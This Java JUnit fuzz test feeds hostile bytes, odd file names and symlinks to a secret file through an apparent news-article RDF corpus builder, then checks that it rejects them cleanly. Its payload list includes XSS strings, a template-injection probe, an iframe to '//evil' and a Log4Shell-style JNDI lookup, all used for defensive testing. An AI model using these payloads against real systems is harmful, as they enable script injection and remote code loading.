package org.newsgraph.store;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;
import org.apache.jena.graph.Node;
import org.apache.jena.rdf.model.Model;
import org.apache.jena.rdf.model.ModelFactory;
import org.apache.jena.system.Txn;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.newsgraph.cli.Components;
import org.newsgraph.rdf.Iris;
import org.newsgraph.rdf.ShapeChecker;
import org.newsgraph.reference.ReferenceData;

/**
 * Seeded fuzzing of whole input folders through the real build into a real TDB2: hostile bytes and
 * hostile file names. No crash, every rejection names its file, every stored article graph passes the
 * shapes, and there are exactly as many article graphs as accepted files. {@code -Dfuzz.files=N}
 * scales it (default 2,000, the issue's floor: each of the sixteen kinds of content some 125 times), {@code -Dfuzz.seed=S} changes the files.
 */
class InputFuzzTest {

    private static final int FILES = Integer.getInteger("fuzz.files", 2000);
    private static final long SEED = Long.getLong("fuzz.seed", 20240611L);
    private static final long MAX_BYTES = 48 * 1024;

    @Test
    void hostileFoldersBuildWithoutCrashOrClash(@TempDir Path tmp) throws Exception {
        Path input = Files.createDirectories(tmp.resolve("in"));
        Path outside = Files.createDirectories(tmp.resolve("outside"));
        Files.writeString(outside.resolve("secret.txt"), "Secret\n\nSECRET-CONTENT\n");
        List<byte[]> seeds = new ArrayList<>();
        try (Stream<Path> s = Files.list(Path.of("seeds"))) {
            for (Path p : s.filter(p -> p.toString().endsWith(".txt")).sorted().toList()) {
                seeds.add(Files.readAllBytes(p));
            }
        }
        Random random = new Random(SEED);
        Set<Path> written = new HashSet<>();
        int links = 0;
        while (written.size() + links < FILES) {
            Path file = input.resolve(name(random, written.size() + links) + ".txt");
            if (written.contains(file) || Files.exists(file, java.nio.file.LinkOption.NOFOLLOW_LINKS)) {
                continue;
            }
            Files.createDirectories(file.getParent());
            if (random.nextInt(50) == 0) {
                Files.createSymbolicLink(file, random.nextBoolean() ? outside.resolve("secret.txt") : tmp.resolve("none"));
                links++;
                continue;
            }
            Files.write(file, content(random, seeds));
            written.add(file);
        }

        Components c = new Components(Iris.DEFAULT_BASE);
        List<String> log = new ArrayList<>();
        long t0 = System.nanoTime();
        CorpusBuilder.Report r = new CorpusBuilder(c.converter, new ArticleFiles(MAX_BYTES), c.ontology, c.reference,
                log::add).build(input, tmp.resolve("data"));
        double seconds = (System.nanoTime() - t0) / 1e9;

        // Every rejection names its file, on one line, and none is a crash of the converter.
        Map<Path, String> rejected = new HashMap<>();
        for (String f : r.failures()) {
            assertFalse(f.contains("\n"), f);
            assertFalse(f.contains("internal error"), () -> "a crash: " + f);
            Path named = written.stream().filter(p -> f.startsWith(ArticleFiles.oneLine(p + ":"))
                            || f.startsWith(ArticleFiles.oneLine(p + " at offset")))
                    .findFirst().orElse(null);
            if (named == null) {
                assertTrue(f.startsWith(input.toString()) && f.contains("symbolic link"), () -> "names no file: " + f);
            } else {
                assertEquals(null, rejected.put(named, f), () -> "two failures for " + named);
            }
        }
        assertEquals(links, r.failures().size() - rejected.size(), "every link is reported");
        int accepted = written.size() - rejected.size();
        assertEquals(accepted, r.loaded(), "every file not rejected is loaded");

        // Exactly one graph per accepted file, each conforming to the shapes.
        ShapeChecker shapes = new ShapeChecker(ReferenceData.load(ReferenceData.SHAPES).getGraph());
        String articlePrefix = Iris.DEFAULT_BASE + "graph/article/";
        int graphs = 0;
        try (Store store = Store.open(tmp.resolve("data"))) {
            List<Node> names = Txn.calculateRead(store.dataset(), () -> {
                List<Node> out = new ArrayList<>();
                store.dataset().listGraphNodes().forEachRemaining(out::add);
                return out;
            });
            for (Node g : names) {
                if (!g.getURI().startsWith(articlePrefix)) {
                    continue;
                }
                graphs++;
                Model m = ModelFactory.createDefaultModel();
                Txn.executeRead(store.dataset(), () -> store.dataset().find(g, Node.ANY, Node.ANY, Node.ANY)
                        .forEachRemaining(q -> m.getGraph().add(q.asTriple())));
                shapes.check(g.getURI(), m);
                assertFalse(m.listObjects().toList().stream().anyMatch(o -> o.isLiteral()
                        && o.asLiteral().getLexicalForm().contains("SECRET-CONTENT")), "nothing read through a link");
            }
        }
        assertEquals(accepted, graphs, "no two files share a graph");
        System.out.printf("InputFuzzTest: %d files (%d links), %d accepted, %d rejected, %d graphs, build %.1f s%n",
                written.size() + links, links, accepted, r.failures().size(), graphs, seconds);
    }

    // ---------------------------------------------------------------- names

    private static final String[] NAME_PIECES = {"a", "Z", "7", " ", "_", "-", ".", "..", "'", "\"", "%", "%25", "!", "$",
        "#", "?", ";", "\\", "&", "+", "=", "@", ":", ",", "(", ")", "[", "]", "{", "}", "<", ">", "|", "^", "`", "~",
        "\t", "\n", "\r", "\u0001", "\u007F", "é", "e\u0301", "ß", "中", "文", "😀", "𝔸", "\u202E", "\u200B", "\uFEFF",
        "\u00A0", "\u3000", "\u0085", "\u2028", "\uE000", "Путин", "محمد", "עברית", "<script>"};

    // Odd names, sometimes in sub-folders; the index keeps them apart where the pieces coincide.
    private static String name(Random r, int i) {
        StringBuilder s = new StringBuilder();
        if (r.nextInt(5) == 0) {
            s.append(r.nextBoolean() ? "sub" : "中").append(r.nextInt(3)).append('/');
        }
        for (int n = r.nextInt(6); n > 0; n--) {
            s.append(NAME_PIECES[r.nextInt(NAME_PIECES.length)]);
        }
        if (r.nextInt(8) != 0) {
            s.append(i);
        }
        if (r.nextInt(40) == 0) {
            s.append("x".repeat(180));
        }
        String n = s.toString();
        // A name may not be "." or "..", and a file name holds no '/' and at most 255 bytes.
        int slash = n.indexOf('/');
        String last = n.substring(slash + 1);
        if (last.isEmpty() || last.equals(".") || last.equals("..")) {
            n = n + "_" + i;
        }
        while (n.substring(n.indexOf('/') + 1).getBytes(StandardCharsets.UTF_8).length > 240) {
            n = n.substring(0, n.offsetByCodePoints(n.length(), -1));
        }
        return n;
    }

    // ---------------------------------------------------------------- contents

    // Mostly the head of a seed (title, by-line, date, a few paragraphs): thousands of whole seeds
    // would make the test a benchmark of loading and dumping.
    private static byte[] content(Random r, List<byte[]> seeds) {
        byte[] whole = seeds.get(r.nextInt(seeds.size()));
        byte[] seed = r.nextInt(10) == 0 ? whole : head(whole, 200 + r.nextInt(1000));
        String text = new String(seed, StandardCharsets.UTF_8);
        return switch (r.nextInt(16)) {
            case 0 -> insert(r, seed, new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF},
                    new byte[] {(byte) 0xC0, (byte) 0xAF}, new byte[] {(byte) 0xE2, (byte) 0x82});
            case 1 -> insert(r, seed, new byte[] {0});
            case 2 -> concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, seed);
            case 3 -> text.replace("\r\n", "\r").replace('\n', '\r').getBytes(StandardCharsets.UTF_8);
            case 4 -> (text.lines().findFirst().orElse("Title") + "\n\n" + "word ".repeat(r.nextInt(12_000)))
                    .getBytes(StandardCharsets.UTF_8);
            case 5 -> payload(r, text).getBytes(StandardCharsets.UTF_8);
            case 6 -> marks(r, text).getBytes(StandardCharsets.UTF_8);
            case 7 -> insert(r, seed, new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                    new byte[] {(byte) 0xED, (byte) 0xBF, (byte) 0xBF});
            case 8, 9 -> mutate(r, seed);
            case 10 -> new byte[0];
            case 11 -> List.of(" \n", "\u00A0\u3000", "\u200B\uFEFF", "\t\r\n\u2028", "\uFEFF")
                    .get(r.nextInt(5)).repeat(1 + r.nextInt(20)).getBytes(StandardCharsets.UTF_8);
            case 12 -> ("Big\n\n" + "x".repeat((int) MAX_BYTES)).getBytes(StandardCharsets.UTF_8);
            case 13 -> garbage(r);
            default -> seed;
        };
    }

    private static byte[] head(byte[] seed, int bytes) {
        int end = Math.min(seed.length, bytes);
        while (end < seed.length && seed[end] != '\n') {
            end++;
        }
        return java.util.Arrays.copyOf(seed, end);
    }

    private static byte[] insert(Random r, byte[] seed, byte[]... bad) {
        byte[] b = bad[r.nextInt(bad.length)];
        int at = r.nextInt(seed.length);
        return concat(java.util.Arrays.copyOf(seed, at), b, java.util.Arrays.copyOfRange(seed, at, seed.length));
    }

    private static String payload(Random r, String text) {
        String[] p = {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
            "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://x/a}", "]]><!--", "<iframe src=//evil>", "%00", "\u0000"
                .replace("\u0000", "&#0;")};
        StringBuilder s = new StringBuilder(text);
        for (int n = 1 + r.nextInt(5); n > 0; n--) {
            s.insert(r.nextInt(s.length()), p[r.nextInt(p.length)]);
        }
        return s.toString();
    }

    private static String marks(Random r, String text) {
        String[] p = {"\u202E", "\u202D", "\u2066", "\u2069", "\u200F", "\u0301\u0301\u0301\u0301", "\u0651\u064E",
            "مرحبا بالعالم", "שלום עולם", "Z\u0336\u0337\u0338a\u035Cl\u0360g\u0361o", "\u200D", "👩‍👩‍👧‍👦"};
        StringBuilder s = new StringBuilder(text);
        for (int n = 1 + r.nextInt(20); n > 0; n--) {
            int at = r.nextInt(s.length());
            if (Character.isLowSurrogate(s.charAt(at))) {
                at--;
            }
            s.insert(at, p[r.nextInt(p.length)]);
        }
        return s.toString();
    }

    private static byte[] mutate(Random r, byte[] seed) {
        byte[] b = seed.clone();
        for (int n = 1 + r.nextInt(30); n > 0; n--) {
            int at = r.nextInt(b.length);
            switch (r.nextInt(3)) {
                case 0 -> b[at] = (byte) r.nextInt(256);
                case 1 -> b[at] = (byte) " \n.\"',:".charAt(r.nextInt(7));
                default -> b = concat(java.util.Arrays.copyOf(b, at), java.util.Arrays.copyOfRange(b, Math.max(0,
                        at - 200), at), java.util.Arrays.copyOfRange(b, at, b.length));
            }
        }
        return b;
    }

    private static byte[] garbage(Random r) {
        StringBuilder s = new StringBuilder();
        for (int n = 10 + r.nextInt(3000); n > 0; n--) {
            int c = r.nextInt(10) < 7 ? 32 + r.nextInt(95) : r.nextInt(0x3000);
            if (!Character.isSurrogate((char) c)) {
                s.appendCodePoint(c);
            }
        }
        return s.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        int n = 0;
        for (byte[] p : parts) {
            n += p.length;
        }
        byte[] out = new byte[n];
        int at = 0;
        for (byte[] p : parts) {
            System.arraycopy(p, 0, out, at, p.length);
            at += p.length;
        }
        return out;
    }
}
